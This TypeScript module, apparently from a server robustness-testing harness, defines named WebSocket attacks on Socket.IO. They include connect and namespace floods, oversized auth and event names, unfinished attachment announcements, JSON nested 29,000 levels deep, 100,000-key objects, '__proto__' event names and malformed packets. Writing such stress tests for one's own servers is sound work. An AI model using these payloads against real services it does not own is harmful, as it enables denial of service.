import type { Attack } from '../attacker.ts';
import { frame, heads, times } from '../frames.ts';
import { flood } from './web-socket.ts';

/** A WebSocket that has joined, and sends one event as often as it is let. */
const events = (text: () => string, packets = 1): Attack =>
  flood({ bytes: () => times(packets, frame(text())), packets, joins: true });

const keys = (count: number): string =>
  `42["search",{${Array.from({ length: count }, (_, index) => `"${index.toString(36)}":0`).join(',')}}]`;

/** WebSockets that announce attachments, send fewer, and wait. */
const attachments = (announced: number, sent: number): Attack => {
  const places = Array.from({ length: announced }, (_, num) => `{"_placeholder":true,"num":${num}}`);
  return attacker =>
    attacker.inParallel(
      50,
      async wire => {
        await wire.send(frame(`45${announced}-["message",${places}]`));
        for (let n = 0; n < sent; n++) await wire.send(frame(Buffer.alloc(60_000), heads.binary));
        await wire.end();
      },
      () => attacker.join(),
    );
};

/** What Socket.IO makes of packets: namespaces, events, acknowledgements, attachments. */
export const socketAttacks: Record<string, Attack> = {
  'socket-250-connects': flood({ bytes: () => times(250, frame('40')), packets: 250 }),
  'socket-huge-auth': flood({ bytes: () => frame(`40{"resume":"${'a'.repeat(60_000)}"}`), packets: 1 }),
  'socket-namespaces': flood({ bytes: () => times(100, frame('40/x,{}')), packets: 100 }),
  'socket-unasked-acks': events(() => '430[]', 100),
  'socket-attachments-silent': attachments(1, 0),
  'socket-attachments-unfinished': attachments(10, 9),
  'socket-too-many-attachments': events(() => '45999999-["message"]', 10),
  'socket-deep-json': events(() => `42["search",${'['.repeat(29_000)}${']'.repeat(29_000)}]`),
  'socket-6000-keys': events(() => keys(6000)),
  'socket-100000-keys': events(() => keys(100_000)),
  'socket-long-name': events(() => `42["${'a'.repeat(50_000)}"]`),
  'socket-reserved-names': flood({
    bytes: () => times(20, Buffer.concat(['disconnect', 'error', '__proto__'].map(name => frame(`42["${name}",{}]`)))),
    packets: 60,
    joins: true,
  }),
  'socket-not-json': events(() => '42["message",{]', 50),
};
